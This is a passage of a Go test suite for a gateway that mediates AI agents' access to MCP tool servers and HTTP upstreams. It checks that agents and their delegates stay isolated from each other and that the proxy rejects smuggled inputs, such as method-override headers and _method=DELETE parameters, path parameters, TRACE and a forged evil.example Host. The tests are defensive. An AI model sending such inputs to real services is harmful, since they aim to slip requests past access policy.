	s := mcp.NewServer(&mcp.Implementation{Name: "notes", Version: "1"}, &mcp.ServerOptions{SupportedProtocolVersions: []string{"2025-11-25"}})
	var mu sync.Mutex
	notes := map[string]string{}
	mcp.AddTool(s, &mcp.Tool{Name: "write"}, func(_ context.Context, req *mcp.CallToolRequest, a struct {
		Text string `json:"text"`
	}) (*mcp.CallToolResult, any, error) {
		mu.Lock()
		notes[req.Session.ID()] = a.Text
		mu.Unlock()
		return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "kept"}}}, nil, nil
	})
	mcp.AddTool(s, &mcp.Tool{Name: "read"}, func(_ context.Context, req *mcp.CallToolRequest, _ struct{}) (*mcp.CallToolResult, any, error) {
		mu.Lock()
		defer mu.Unlock()
		return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "note: " + notes[req.Session.ID()]}}}, nil, nil
	})
	return s
}

// What one agent leaves in an upstream's session, another agent does not
// read: every agent has its own session with an upstream that keeps them
// (all agents' calls went on the gateway's one session).
func TestAttackUpstreamSessionStateIsPerAgent(t *testing.T) {
	t.Parallel()
	ns := notesServer()
	notes := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return ns }, nil))
	t.Cleanup(notes.Close)
	r := newRig(t, func(gc *app.GatewayConfig) {
		gc.MCP.Servers = append(gc.MCP.Servers, mcpgw.Server{Name: "notes", URL: notes.URL, Trust: mcpgw.Trusted})
	})
	note := func(s *mcp.ClientSession) string {
		t.Helper()
		res, err := s.CallTool(r.ctx, &mcp.CallToolParams{Name: "notes__read"})
		if err != nil || res.IsError {
			t.Fatalf("notes__read: %v %+v", err, res)
		}
		return res.Content[0].(*mcp.TextContent).Text
	}
	victim, attacker := r.agent("ai-agent://dev/note-taker"), r.agent("ai-agent://dev/note-reader")
	vs := r.session(victim, "", nil)
	if !r.call(vs, "notes__write", map[string]any{"text": "the vault code is 4711"}) {
		t.Fatal("notes__write was denied")
	}
	for _, version := range []string{"", "2025-11-25", "2025-06-18"} {
		if got := note(r.session(attacker, version, nil)); strings.Contains(got, "4711") {
			t.Fatalf("another agent read the note (protocol %q): %q", version, got)
		}
	}
	// The agent's own session with the upstream outlives its sessions
	// with the gateway.
	if got := note(r.session(victim, "2025-06-18", nil)); !strings.Contains(got, "4711") {
		t.Fatalf("the agent lost its own note: %q", got)
	}

	// An agent acting for another, or on a task, is another principal: what
	// it left there for one, it does not carry into the others.
	const planner = "ai-agent://dev/note-planner"
	pk := r.w.Register(t, planner, "agent", "delegator")
	p, err := sdk.NewClient(r.w.URL, planner, pk, sdk.WithResource(r.mcpURL))
	if err != nil {
		t.Fatal(err)
	}
	forPlanner, err := p.Delegate(r.ctx, mustToken(t, p), attacker.id)
	if err != nil {
		t.Fatal(err)
	}
	if !r.call(r.sessionWithToken(forPlanner.AccessToken), "notes__write", map[string]any{"text": "the planner's code is 0815"}) {
		t.Fatal("notes__write for the planner was denied")
	}
	onTask, err := p.DelegateTask(r.ctx, mustToken(t, p), attacker.id, "task-a")
	if err != nil {
		t.Fatal(err)
	}
	otherTask, err := p.DelegateTask(r.ctx, mustToken(t, p), attacker.id, "task-b")
	if err != nil {
		t.Fatal(err)
	}
	for name, s := range map[string]*mcp.ClientSession{"on its own": r.session(attacker, "", nil),
		"for the planner on a task": r.sessionWithToken(onTask.AccessToken)} {
		if got := note(s); strings.Contains(got, "0815") {
			t.Fatalf("the delegate read the planner's note %s: %q", name, got)
		}
	}
	if !r.call(r.sessionWithToken(onTask.AccessToken), "notes__write", map[string]any{"text": "task a's code is 1234"}) {
		t.Fatal("notes__write on task a was denied")
	}
	if got := note(r.sessionWithToken(otherTask.AccessToken)); strings.Contains(got, "1234") {
		t.Fatalf("another task read task a's note: %q", got)
	}
	if got := note(r.sessionWithToken(forPlanner.AccessToken)); !strings.Contains(got, "0815") {
		t.Fatalf("the delegate lost the planner's note: %q", got)
	}
}

// What upstreams read otherwise than policy does never reaches them: a
// header that servers reading '_' as '-' take for a removed one, TRACE,
// a path with ';', a body without a type, names that differ only in
// case, a _method parameter; the forwarded host is the proxy's;
// a redacted answer says nothing of the whole. (Each was forwarded.)
func TestAttackProxyRefusesWhatUpstreamsReadOtherwise(t *testing.T) {
	t.Parallel()
	r := newRig(t, nil)
	a := r.agent("ai-agent://dev/aliaser")
	client := &http.Client{Transport: a.http.Transport(nil)}
	send := func(method, path, contentType, body string, h http.Header) (int, string, http.Header) {
		t.Helper()
		return r.send(client, method, path, contentType, body, h)
	}
	for name, c := range map[string]struct {
		method, path, ct, body string
		h                      http.Header
		want                   int
	}{
		"a header aliasing a method override": {"GET", "/api/x", "", "", http.Header{"X_http_method_override": {"DELETE"}}, 400},
		"an aliased client address":           {"GET", "/api/x", "", "", http.Header{"X_real_ip": {"10.0.0.1"}}, 400},
		"TRACE":                               {"TRACE", "/api/x", "", "", nil, 405},
		"a path parameter":                    {"GET", "/api/admin;x/users", "", "", nil, 400},
		"a body without a type":               {"POST", "/api/transfer", "", `{"amount":5000}`, nil, 400},
		"names differing in case":             {"GET", "/api/x?Account=a&account=b", "", "", nil, 400},
		"_method in the query":                {"POST", "/api/x?_method=DELETE", "", "", nil, 400},
		"_method in a form":                   {"POST", "/api/x", "application/x-www-form-urlencoded", "_method=DELETE", nil, 400},
		"_method in JSON":                     {"POST", "/api/x", "application/json", `{"_method":"DELETE"}`, nil, 400},
	} {
		if status, body, _ := send(c.method, c.path, c.ct, c.body, c.h); status != c.want {
			t.Errorf("%s: %d %s", name, status, body)
		}
	}

	// The forwarded host is the proxy's; the re-encoded body is UTF-8
	// JSON whatever charset the agent named.
	req, _ := http.NewRequest("POST", r.httpURL+"/api/x", strings.NewReader(`{"a":1}`))
	req.Header.Set("Content-Type", "application/json; charset=iso-8859-1")
	req.Host = "evil.example"
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	var echo struct {
		Headers map[string]string `json:"headers"`
	}
	if resp.StatusCode != http.StatusOK || json.Unmarshal(b, &echo) != nil {
		t.Fatalf("the echo: %d %s", resp.StatusCode, b)
	}
	if h := echo.Headers["x-forwarded-host"]; h != strings.TrimPrefix(r.httpURL, "http://") {
		t.Errorf("X-Forwarded-Host: %q", h)
	}
	if h := echo.Headers["content-type"]; h != "application/json" {
		t.Errorf("the re-encoded body's Content-Type: %q", h)
	}

	// A redacted answer loses what describes the whole of it.
	status, body, h := send("GET", "/files/patient.json", "", "", nil)
	if status != http.StatusOK || strings.Contains(body, "123-45-6789") {
		t.Fatalf("the redacted file: %d %s", status, body)
	}
	for _, name := range []string{"Etag", "Digest", "Last-Modified"} {
		if v := h.Get(name); v != "" {
			t.Errorf("%s passed with a redacted answer: %s", name, v)
		}
	}
}
